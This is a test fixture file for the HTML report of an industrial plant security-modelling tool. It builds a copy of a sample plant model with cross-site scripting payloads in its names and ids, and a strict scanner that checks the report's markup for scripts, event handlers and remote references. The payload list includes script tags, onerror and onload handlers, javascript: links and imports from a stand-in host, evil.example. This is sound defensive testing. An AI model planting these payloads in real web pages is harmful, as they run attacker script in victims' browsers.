// Shared fixtures of the report tests: the sample plants, and a hostile copy of the reference plant
// whose every name, description and many ids carry markup and event-handler attributes.
import { readFileSync } from 'node:fs';
import { buildContext, type PlantContext } from '../../../src/analysis/context';
import { parseModelText, validateModel } from '../../../src/model/parse';
import type { PlantModel } from '../../../src/model/schema';

export const SAMPLES = ['models/reference-plant.json', 'models/water-treatment.json'] as const;

export function loadModel(file: string): PlantModel {
  const r = parseModelText(readFileSync(file, 'utf8'));
  if (r.kind !== 'ok') throw new Error(`${file} is invalid`);
  return r.model;
}

export function load(file: string): PlantContext {
  return buildContext(loadModel(file));
}

export const PAYLOADS = [
  '<script>alert(1)</script>',
  '" onmouseover="x',
  '<img src=x onerror=alert(1)>',
  "' onfocus='alert(2)' autofocus='",
  '<svg onload=alert(3)>',
  '</title><script src="https://evil.example/x.js"></script>',
  '<a href="javascript:alert(4)">x</a>',
  '<style>@import url(https://evil.example/x.css)</style>',
  'a & b < c > d `e`',
] as const;

/** The reference plant with hostile names, descriptions, plant id and trust/media ids. */
export function hostileModel(): PlantModel {
  const m = structuredClone(loadModel('models/reference-plant.json')) as unknown as Record<string, unknown> & PlantModel;
  const p = (i: number) => `${PAYLOADS[i % PAYLOADS.length]} #${i}`;
  const doc = m as unknown as {
    plant: { id: string; name: string; site?: string };
    zones: { name: string }[];
    assets: { name: string }[];
    productionLines: { name: string; groups: { name: string }[] }[];
    crownJewels: { impact: { description?: string } }[];
    entryPoints: { description?: string }[];
    trust: { id: string }[];
    media: { id: string; name?: string }[];
  };
  doc.plant.id = PAYLOADS[0];
  doc.plant.name = `${PAYLOADS[5]} plant`;
  doc.plant.site = PAYLOADS[1];
  doc.zones.forEach((z, i) => (z.name = p(i + 3)));
  doc.assets.forEach((a, i) => (a.name = p(i)));
  doc.productionLines.forEach((l, i) => {
    l.name = p(i + 1);
    l.groups.forEach((g, k) => (g.name = p(k + 2)));
  });
  doc.crownJewels.forEach((j, i) => (j.impact.description = p(i + 4)));
  doc.entryPoints.forEach((e, i) => (e.description = p(i + 2)));
  doc.trust.forEach((t, i) => (t.id = `${PAYLOADS[(i + 1) % PAYLOADS.length]}-t${i}`));
  doc.media.forEach((x, i) => {
    x.id = `${PAYLOADS[(i + 2) % PAYLOADS.length]}-m${i}`;
    x.name = p(i + 6);
  });
  const r = validateModel(m);
  if (r.kind !== 'ok') throw new Error(`hostile model invalid: ${JSON.stringify(r.errors.slice(0, 3))}`);
  return r.model;
}

/** Tags allowed in the report; anything else (script, img, iframe, link, a, object…) fails a test. */
const ALLOWED_TAGS = new Set([
  'html', 'head', 'meta', 'title', 'style', 'body', 'main', 'section', 'footer', 'h1', 'h2', 'h3', 'p', 'div', 'span', 'strong', 'br',
  'ol', 'ul', 'li', 'dl', 'dt', 'dd', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'figure', 'figcaption',
  'svg', 'g', 'rect', 'line', 'circle', 'path', 'text',
]);
const ALLOWED_ATTRIBUTES = new Set([
  'lang', 'charset', 'http-equiv', 'content', 'name', 'class', 'aria-label', 'role', 'data-part', 'data-chart', 'data-layer',
  'viewbox', 'width', 'height', 'xmlns', 'font-family', 'x', 'y', 'x1', 'y1', 'x2', 'y2', 'cx', 'cy', 'r', 'rx', 'd',
  'fill', 'stroke', 'stroke-width', 'stroke-linecap', 'opacity', 'text-anchor', 'font-size', 'font-weight',
]);

export interface ScannedTag {
  readonly name: string;
  readonly attributes: readonly { name: string; value: string }[];
}

/**
 * A strict scan of the report's markup, following the HTML tokenizer's rules for the subset the
 * report uses: every `<` that opens a tag is read as a tag with its attributes (unquoted or
 * single-quoted values are rejected: the report only writes double-quoted ones); text may not
 * contain a raw `<` that would open a tag, nor `"`/`'` inside a tag. <style> content is raw text.
 */
export function scanHtml(html: string): { tags: ScannedTag[]; text: string; style: string } {
  const tags: ScannedTag[] = [];
  let text = '';
  let style = '';
  let i = 0;
  if (html.startsWith('<!DOCTYPE html>')) i = '<!DOCTYPE html>'.length;
  while (i < html.length) {
    const lt = html.indexOf('<', i);
    if (lt < 0) {
      text += html.slice(i);
      break;
    }
    text += html.slice(i, lt);
    const rest = html.slice(lt);
    if (rest.startsWith('<!--')) throw new Error(`comment at ${lt}`);
    const close = /^<\/([a-zA-Z][a-zA-Z0-9-]*)\s*>/.exec(rest);
    if (close) {
      if (!ALLOWED_TAGS.has(close[1]!.toLowerCase())) throw new Error(`closing tag </${close[1]}> at ${lt}`);
      i = lt + close[0].length;
      continue;
    }
    const open = /^<([a-zA-Z][a-zA-Z0-9-]*)/.exec(rest);
    if (!open) throw new Error(`a raw "<" in text at ${lt}: ${JSON.stringify(rest.slice(0, 40))}`);
    const name = open[1]!.toLowerCase();
    let j = lt + open[0].length;
    const attributes: { name: string; value: string }[] = [];
    for (;;) {
      while (/\s/.test(html[j]!)) j++;
      if (html[j] === '>') {
        j++;
        break;
      }
      if (html.startsWith('/>', j)) {
        j += 2;
        break;
      }
      const an = /^[^\s"'>/=]+/.exec(html.slice(j));
      if (!an) throw new Error(`bad attribute in <${name}> at ${j}: ${JSON.stringify(html.slice(j, j + 40))}`);
      j += an[0].length;
      let value = '';
      if (html[j] === '=') {
        if (html[j + 1] !== '"') throw new Error(`attribute ${an[0]} of <${name}> is not double-quoted at ${j}`);
        const end = html.indexOf('"', j + 2);
        value = html.slice(j + 2, end);
        j = end + 1;
        if (!/[\s>/]/.test(html[j]!)) throw new Error(`attribute ${an[0]} of <${name}> runs into the next at ${j}`);
      }
      attributes.push({ name: an[0].toLowerCase(), value });
    }
    tags.push({ name, attributes });
    if (name === 'style') {
      const end = html.indexOf('</style>', j);
      style += html.slice(j, end);
      j = end;
    }
    i = j;
  }
  return { tags, text, style };
}

/** The markup without its text: tags with their attributes, and the stylesheet. */
export function markupOnly(html: string): string {
  const { tags, style } = scanHtml(html);
  return tags.map((t) => `<${t.name}${t.attributes.filter((a) => a.name !== 'aria-label').map((a) => ` ${a.name}="${a.value}"`).join('')}>`).join('') + style;
}

export function assertSafeHtml(html: string): { tags: ScannedTag[]; text: string } {
  const { tags, text, style } = scanHtml(html);
  for (const t of tags) {
    if (!ALLOWED_TAGS.has(t.name)) throw new Error(`tag <${t.name}> is not allowed in the report`);
    for (const a of t.attributes) {
      if (!ALLOWED_ATTRIBUTES.has(a.name)) throw new Error(`attribute ${a.name} on <${t.name}> is not allowed`);
      if (a.name.startsWith('on')) throw new Error(`event handler ${a.name} on <${t.name}>`);
      // Presentation attributes could still point somewhere (fill="url(…)"); labels are only text.
      if (a.name !== 'aria-label' && a.name !== 'xmlns' && /javascript:|url\(|https?:|\/\//i.test(a.value)) throw new Error(`remote or script reference in ${a.name}="${a.value}"`);
    }
  }
  if (/url\(|@import|https?:|\/\//i.test(style)) throw new Error('the stylesheet references something remote');
  return { tags, text };
}
